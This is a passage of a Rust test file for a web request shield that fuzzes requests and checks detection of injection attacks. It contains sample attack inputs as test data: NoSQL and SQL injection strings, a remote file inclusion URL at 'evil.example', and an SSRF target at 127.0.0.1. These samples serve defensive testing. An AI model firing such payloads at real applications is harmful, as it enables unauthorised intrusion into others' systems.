            let len = 1 + rng.below(8.min(line.len() - a));
            let frag = &line[a..a + len];
            let most = if rng.below(10) == 0 { 4000 } else { 60 };
            let times = 1 + rng.below(most);
            let mut v = line[..a].to_vec();
            for _ in 0..times {
                v.extend_from_slice(frag);
            }
            v.extend_from_slice(&line[a..]);
            v
        }
        _ => {
            let mut v = line.to_vec();
            for _ in 0..1 + rng.below(6) {
                let at = rng.below(v.len() + 1);
                match rng.below(3) {
                    0 => v.insert(at, *rng.pick(FUZZ_BYTES)),
                    1 if at < v.len() => v[at] ^= 1 << rng.below(8),
                    _ if at < v.len() => {
                        v.remove(at);
                    }
                    _ => v.push(rng.next() as u8),
                }
            }
            v
        }
    };
    if rng.below(8) == 0 {
        // Cut anywhere, possibly inside a character.
        v.truncate(rng.below(v.len() + 1));
    }
    v
}

/// Percent-encodes bytes, sometimes only some of them.
fn fuzz_pct(rng: &mut XorShift, v: &[u8]) -> String {
    let all = rng.below(3) == 0;
    let mut out = String::new();
    for &b in v {
        if b.is_ascii_alphanumeric() || (!all && b.is_ascii_graphic() && !matches!(b, b'&' | b'=' | b'%' | b'#' | b'?' | b'+')) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{:02X}", b));
        }
    }
    out
}

/// 20,000 random requests built from corpus fragments, random bytes,
/// repetition and splicing, put in every place the shield reads, through
/// `RuleSet::evaluate` at sensitivity 1 to 4 and with options: no panic,
/// every reason valid JSON, every excerpt at most 40 characters.
/// `SHIELD_FUZZ_CASES` and `SHIELD_FUZZ_SEED` pick another run.
#[test]
fn fuzzed_requests_never_panic() {
    let cases: usize = std::env::var("SHIELD_FUZZ_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(20_000);
    let seed: u64 = std::env::var("SHIELD_FUZZ_SEED").ok().and_then(|v| v.parse().ok()).unwrap_or(0x5eed_2024_0601);
    let lines: Vec<&str> = CORPORA.iter().flat_map(|(_, text, _)| corpus_lines(text)).collect();
    let sets: Vec<RuleSet> = (1..=4)
        .map(|sens| RuleSet::compile(&format!(r#"{{"rules":[{{"kind":"shield","mode":"LIVE","sensitivity":{}}}]}}"#, sens)).unwrap())
        .chain(std::iter::once(
            RuleSet::compile(
                r#"{"rules":[{"kind":"shield","mode":"LIVE","sensitivity":4,"exclude_paths":["/static"],"exclude_fields":["query:q","body:$.c","cookie:s"],"body_limit":512,"on_body_limit":"prefix"}]}"#,
            )
            .unwrap(),
        ))
        .collect();
    let mut rng = XorShift(seed | 1);
    let mut denied = 0;
    for case in 0..cases {
        let v = fuzz_value(&mut rng, &lines);
        let text = String::from_utf8_lossy(&v).into_owned();
        let mut req = query_request(String::new());
        let mut body = Vec::new();
        let place = rng.below(12);
        match place {
            0 => req.path = format!("/{}", fuzz_pct(&mut rng, &v)).into(),
            1 => req.path = format!("/a/{}", text).into(),
            2 => req.query = format!("q={}&x=1", fuzz_pct(&mut rng, &v)).into(),
            3 => req.query = format!("{}=1", fuzz_pct(&mut rng, &v)).into(),
            4 => req.headers = vec![(rng.pick(&["user-agent", "referer", "x-data", "accept", "accept-language", "if-modified-since"]).to_string().into(), text.clone().into())],
            5 => req.headers = vec![("cookie".into(), format!("a=1; s={}; b={}", text, text).into())],
            6 => req.headers = vec![("content-type".into(), text.clone().into())],
            _ => {
                let ct = match place {
                    7 => {
                        let js = serde_json::to_string(&text).unwrap();
                        body = if rng.below(2) == 0 { format!(r#"{{"a":[{},{{"c":{}}}],"k":1}}"#, js, js) } else { format!(r#"{{{}:{{"$ne":{}}}}}"#, js, js) }.into_bytes();
                        "application/json"
                    }
                    8 => {
                        body = format!("a={}&c=2", fuzz_pct(&mut rng, &v)).into_bytes();
                        "application/x-www-form-urlencoded"
                    }
                    9 => {
                        body = b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"".to_vec();
                        body.extend_from_slice(&v);
                        body.extend_from_slice(b"\"\r\n\r\nx\r\n--b\r\nContent-Disposition: form-data; name=\"t\"\r\n\r\n");
                        body.extend_from_slice(&v);
                        body.extend_from_slice(b"\r\n--b--\r\n");
                        "multipart/form-data; boundary=b"
                    }
                    10 => {
                        body = v.clone();
                        "application/xml"
                    }
                    _ => {
                        // Raw (invalid UTF-8 left as it is) or a JSON body cut short.
                        body = v.clone();
                        *rng.pick(&["text/plain", "application/json", "text/html"])
                    }
                };
                req.method = "POST".into();
                req.headers = vec![("content-type".into(), ct.into())];
            }
        }
        req.body = &body;
        let set = rng.pick(&sets);
        let r = match std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| set.evaluate(&req).remove(0))) {
            Ok(r) => r,
            Err(_) => panic!("seed {} case {} (place {}): panic on {:?}", seed, case, place, req),
        };
        let reason: serde_json::Value = serde_json::from_str(&r.reason).unwrap_or_else(|e| panic!("case {}: {} in {}", case, e, r.reason));
        if let Some(ex) = reason["excerpt"].as_str() {
            assert!(ex.chars().count() <= EXCERPT_CHARS, "case {}: excerpt {:?}", case, ex);
        }
        denied += (r.conclusion == Conclusion::Deny) as usize;
    }
    assert!(denied > cases / 20 && denied < cases, "{} of {} denied", denied, cases);
}

/// Found by the fuzzer through the Wasm: a NoSQL `||` breakout whose 48-byte
/// window ended inside a U+FFFD (invalid UTF-8 decoded lossily by the host)
/// sliced a str inside a character and panicked. In a header and a text
/// body, as the host sends them.
#[test]
fn invalid_utf8_after_a_breakout_does_not_panic() {
    let raw: &[u8] = b"'|| 1==\xa8\xf0\x80\x80\xae\">' || 1==1//\xa8\xf0\x80\x80\xae";
    let value = String::from_utf8_lossy(raw).into_owned();
    let set = shield_set();
    let mut req = query_request(String::new());
    req.headers = vec![("x-data".into(), value.clone().into())];
    assert_eq!(reason(&set.evaluate(&req).remove(0))["category"], "NOSQL_INJECTION");
    let mut req = query_request(String::new());
    req.headers = vec![("content-type".into(), "text/plain".into())];
    req.body = raw;
    assert_eq!(reason(&set.evaluate(&req).remove(0))["category"], "NOSQL_INJECTION");
    // Every offset of a multi-byte character after the breakout.
    for pad in 0..60 {
        let v = format!("'|| {}\u{fffd}\u{1f600}== x", "a".repeat(pad));
        let _ = scan_value(&v, 4);
    }
}

/// A value found clean is not scanned again in the same kind of place, but
/// still is where its verdict can differ: an include-like field name, a
/// location that checks SSRF, another set of categories.
#[test]
fn clean_values_are_remembered_only_in_the_same_context() {
    let set = shield_set();
    let mut req = query_request(String::new());
    req.method = "POST".into();
    req.headers = vec![("content-type".into(), "application/json".into())];
    req.body = br#"{"q":"http://evil.example/x.php","page":"http://evil.example/x.php"}"#;
    let v = reason(&set.evaluate(&req).remove(0));
    assert_eq!((v["category"].as_str(), v["location"].as_str()), (Some("FILE_INCLUSION"), Some("body:$.page")));

    let mut req = query_request(String::new());
    req.method = "POST".into();
    req.headers = vec![("x-data".into(), "http://127.0.0.1/admin".into()), ("content-type".into(), "application/json".into())];
    req.body = br#"{"u":"http://127.0.0.1/admin"}"#;
    let v = reason(&set.evaluate(&req).remove(0));
    assert_eq!((v["category"].as_str(), v["location"].as_str(), v["findings"].as_u64()), (Some("SSRF"), Some("body:$.u"), Some(1)));

    // Many distinct clean values, then the first ones again, then an attack
    // equal in length and first bytes to a remembered value.
    let mut body = String::from("[");
    for i in 0..100 {
        body.push_str(&format!("\"value number {:03} here\",", i));
    }
    body.push_str("\"value number 000 here\",\"value number 050 here\",\"value num' or 1=1--ee\"]");
    let mut req = query_request(String::new());
    req.method = "POST".into();
    req.headers = vec![("content-type".into(), "application/json".into())];
    req.body = body.as_bytes();
    let v = reason(&set.evaluate(&req).remove(0));
    assert_eq!((v["category"].as_str(), v["location"].as_str(), v["findings"].as_u64()), (Some("SQL_INJECTION"), Some("body:$[102]"), Some(1)));
}

#[test]
fn default_header_exclusions_hold_for_every_listed_name() {
    let rule = ShieldRule::from_config(&serde_json::json!({"kind": "shield"}), &Limits::default()).unwrap();
    for name in DEFAULT_EXCLUDED_HEADERS {
        assert!(name.len() < 32, "{}", name);
        assert!(rule.header_excluded(name), "{}", name);
    }
    for name in ["sec-ch-ua", "sec-ch-ua-mobile", "sec-fetch-site", "sec-fetch-dest"] {
        assert!(rule.header_excluded(name), "{}", name);
    }
    for name in ["user-agent", "referer", "x-data", "cookies", "content-typ", "sec-ch", "sec-fetch", "", "s"] {
        assert!(!rule.header_excluded(name), "{}", name);
    }
}
